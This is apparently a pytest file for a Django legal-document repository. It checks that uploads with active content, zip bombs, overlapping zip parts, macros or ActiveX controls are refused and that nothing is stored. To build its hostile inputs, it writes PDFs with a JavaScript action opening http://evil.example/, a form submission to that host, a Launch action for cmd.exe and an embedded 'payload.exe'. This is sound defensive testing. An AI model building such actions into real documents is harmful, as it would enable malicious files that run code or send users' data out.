"""Uploads that would act when opened are refused, and nothing of them is stored.

A PDF with scripts, launch or form-submission actions, embedded files or multimedia; an office
document (a zip) that would inflate to too much, compresses more than a real document does, has too
many parts or parts sharing one compressed stream. All judged without extracting anything.
"""

import io
import struct
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from repository import files
from repository.models import Document
from repository.pdf import make_pdf
from repository.tests.conftest import stored_files

WORD_PARTS = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}


def _pdf(change) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(kind: str, **values) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in values.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def _open_action(action):
    def change(writer):
        writer._root_object[NameObject("/OpenAction")] = action

    return change


def _document_script(writer):
    """A script in the document's name tree, run when it is opened."""
    script = writer._add_object(_action("/JavaScript", JS="app.launchURL('http://evil.example/');"))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("start"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def _identify(content: bytes, name: str = "file.bin") -> files.FileKind:
    return files.identify(SimpleUploadedFile(name, content))


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _central_entries(data: bytes) -> list[int]:
    """Offsets of the central directory's file headers."""
    offsets, start = [], data.find(b"PK\x01\x02")
    while start != -1:
        offsets.append(start)
        start = data.find(b"PK\x01\x02", start + 4)
    return offsets


def _upload(client, file_name: str, content: bytes):
    """Mexico's coordinator adds a law in force with this file."""
    return client.post(
        reverse("repository:create", args=["MEX"]),
        {
            "name": "Ley",
            "description": "La ley.",
            "kind": "law",
            "language": "es",
            "status": "in_force",
            "visibility": "public",
            "entry_into_force": "2026-01-15",
            "upload": SimpleUploadedFile(file_name, content),
        },
    )


def test_a_pdf_that_runs_javascript_when_opened_is_refused_and_nothing_is_stored(client, network, media):
    scripted = _pdf(_open_action(_action("/JavaScript", JS="app.alert('hello');")))
    client.force_login(network.coordinator_mex)

    response = _upload(client, "estrategia.pdf", scripted)

    assert response.status_code == 200
    assert "This PDF contains active content (JavaScript)" in response.content.decode()
    assert not Document.objects.exists()
    assert stored_files(media) == []


@pytest.mark.parametrize(
    ("change", "what"),
    [
        (_document_script, "JavaScript"),
        (_open_action(_action("/Launch", F="cmd.exe")), "an action that opens another file or program"),
        (_open_action(_action("/SubmitForm", F="http://evil.example/")), "a form that sends data"),
        (lambda writer: writer.add_attachment("payload.exe", b"MZ\x90\x00"), "embedded files"),
    ],
    ids=["document-javascript", "launch", "submit-form", "embedded-file"],
)
def test_a_pdf_with_active_content_is_refused_saying_what_it_has(change, what):
    with pytest.raises(files.UnacceptableFile, match=f"active content \\({what}\\)"):
        _identify(_pdf(change), "plan.pdf")


def test_a_page_action_hidden_in_a_pages_additional_actions_is_refused():
    def change(writer):
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="x")})

    with pytest.raises(files.UnacceptableFile, match="JavaScript"):
        _identify(_pdf(change))


def test_a_pdf_that_cannot_be_parsed_is_still_searched_for_escaped_script_names():
    disguised = b"%PDF-1.7\n1 0 obj << /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) >> endobj\n%%EOF\n"
    with pytest.raises(files.UnacceptableFile, match="JavaScript"):
        _identify(disguised)


def test_a_pdf_with_links_and_an_opening_view_is_accepted():
    def change(writer):
        writer.add_uri(0, "https://www.oas.org/", [72, 72, 200, 90])
        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/Fit")]
        )

    assert _identify(_pdf(change)) == files.PDF
    assert _identify(make_pdf(["Plain text"])) == files.PDF


def test_an_office_document_that_inflates_beyond_the_limit_is_refused_and_nothing_is_stored(
    client, network, media, settings
):
    settings.REPOSITORY_MAX_UNCOMPRESSED_MB = 1
    inflating = _zip({**WORD_PARTS, "word/media/padding.xml": b"<a/>" * 400_000})  # 1.6 MB inflated, ~5 KB stored
    client.force_login(network.coordinator_mex)

    response = _upload(client, "ley.docx", inflating)

    assert response.status_code == 200
    assert "would take 2 MB once opened; at most 1 MB are accepted" in response.content.decode()
    assert not Document.objects.exists()
    assert stored_files(media) == []


def test_a_central_directory_declaring_a_huge_part_is_refused_without_inflating_it():
    data = bytearray(_zip(WORD_PARTS))
    header = _central_entries(bytes(data))[1]
    data[header + 24 : header + 28] = struct.pack("<I", 0xF000_0000)  # uncompressed size: 3.75 GiB
    with pytest.raises(files.UnacceptableFile, match="would take 3840 MB once opened"):
        _identify(bytes(data))


def test_an_office_document_compressed_like_a_zip_bomb_is_refused():
    bomb = _zip({**WORD_PARTS, "word/media/image1.bin": bytes(12 * 1024 * 1024)})  # 12 MB of zeros, ~12 KB stored
    with pytest.raises(files.UnacceptableFile, match="compressed far more than a real document"):
        _identify(bomb)


def test_an_office_document_with_too_many_parts_is_refused(settings):
    settings.REPOSITORY_MAX_ZIP_PARTS = 3
    parts = {**WORD_PARTS, **{f"word/part{number}.xml": b"<p/>" for number in range(3)}}
    with pytest.raises(files.UnacceptableFile, match=r"too many parts \(5; at most 3"):
        _identify(_zip(parts))


def test_parts_that_share_one_compressed_stream_are_refused():
    data = bytearray(_zip(WORD_PARTS))
    second = _central_entries(bytes(data))[1]
    data[second + 42 : second + 46] = struct.pack("<I", 0)  # points at the first part's data
    with pytest.raises(files.UnacceptableFile, match="its parts overlap"):
        _identify(bytes(data))


def test_a_real_sized_office_document_is_still_accepted():
    text = b"".join(b"<w:p><w:r><w:t>Paragraph %d of the law.</w:t></w:r></w:p>" % n for n in range(20_000))
    assert _identify(_zip({**WORD_PARTS, "word/document.xml": text})) == files.DOCX


def _odt(extra: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", b"<office:document-content/>")
        for name, content in extra.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def test_an_opendocument_with_basic_macros_is_refused():
    macro = _odt({"Basic/script-lc.xml": b"<l/>", "Basic/Standard/Module1.xml": b"<script:module/>"})
    with pytest.raises(files.UnacceptableFile, match="macros"):
        _identify(macro, "ley.odt")


def test_an_opendocument_with_an_empty_macro_library_index_is_accepted():
    assert _identify(_odt({"Basic/script-lc.xml": b"<l/>", "Basic/Standard/script-lb.xml": b"<l/>"})) == files.ODT


def test_a_word_document_with_activex_controls_is_refused():
    with pytest.raises(files.UnacceptableFile, match="ActiveX"):
        _identify(_zip({**WORD_PARTS, "word/activeX/activeX1.bin": b"\x00" * 10}))
